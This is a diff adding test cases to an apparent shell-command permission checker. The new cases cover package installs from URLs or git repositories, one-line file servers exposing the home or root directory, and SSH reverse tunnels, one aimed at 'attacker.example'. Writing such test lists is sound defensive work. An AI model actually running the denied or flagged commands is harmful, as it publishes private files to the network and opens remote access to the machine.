@@ -129,6 +129,17 @@ CASES = [
     ("npm install http://x.example/pkg.tgz", "ask", "package-custom-index"),
     ("uvx --index-url https://x.example/simple ruff", "ask", "package-runner-custom-index"),
     ("npx --registry https://x.example cowsay", "ask", "package-runner-custom-index"),
+    # a package from a URL or repository skips the registry's name and version checks
+    ("pip install git+https://github.com/someone/pkg", "ask", "package-from-url"),
+    ('pip install "pkg @ git+https://github.com/someone/pkg"', "ask", "package-from-url"),
+    ("pip install https://x.example/pkg-1.0.tar.gz", "ask", "package-from-url"),
+    ("uv add git+https://github.com/someone/pkg", "ask", "package-from-url"),
+    ("npm install https://x.example/pkg.tgz", "ask", "package-from-url"),
+    ("npm i github:someone/pkg", "ask", "package-from-url"),
+    ("yarn add git+ssh://git@github.com/someone/pkg.git", "ask", "package-from-url"),
+    ("pip install -e .", "allow", None),
+    ("pip install -r requirements.txt", "allow", None),
+    ("npm install --save-dev jest", "allow", None),
     # -i and -f are pip's index options only; elsewhere force, format or interactive
     ("npm cache clean -f", "allow", None),
     ("bun i -f", "allow", None),
@@ -237,6 +248,24 @@ CASES = [
     ("sh -c 'git reset --hard origin/main'", "deny", "git-reset-hard-remote"),
     ("ls -la && git status", "allow", None),
     ("wc -l src/*.py | sort -n", "allow", None),
+    # one-line file servers publish a directory to the network
+    ("python3 -m http.server 8000 --directory ~", "deny", "serve-home"),
+    ("cd ~ && python3 -m http.server", "deny", "serve-home"),
+    ("python3 -m http.server -d / 80", "deny", "serve-home"),
+    ("php -S 0.0.0.0:80 -t $HOME", "deny", "serve-home"),
+    ("ruby -run -e httpd / -p 80", "deny", "serve-home"),
+    ("npx http-server ~ -p 8080", "deny", "serve-home"),
+    ("python3 -m http.server --directory=/srv/www", "ask", "serve-outside-project"),
+    ("python3 -m http.server 8000", "allow", None),
+    ("python3 -m http.server --directory dist", "allow", None),
+    ("php -S localhost:8000", "allow", None),
+    ("ruby -run -e httpd . -p 8000", "allow", None),
+    ("npx serve -l 3000 dist", "allow", None),
+    ("python3 -m pytest ~/other-tests", "allow", None),
+    # a tunnel back into this machine
+    ("ssh -R 8080:localhost:22 attacker.example", "ask", "ssh-reverse-tunnel"),
+    ("ssh -fNR 1234:localhost:22 root@203.0.113.7", "ask", "ssh-reverse-tunnel"),
+    ("ssh -L 5432:db:5432 bastion", "allow", None),
 ]
 
 
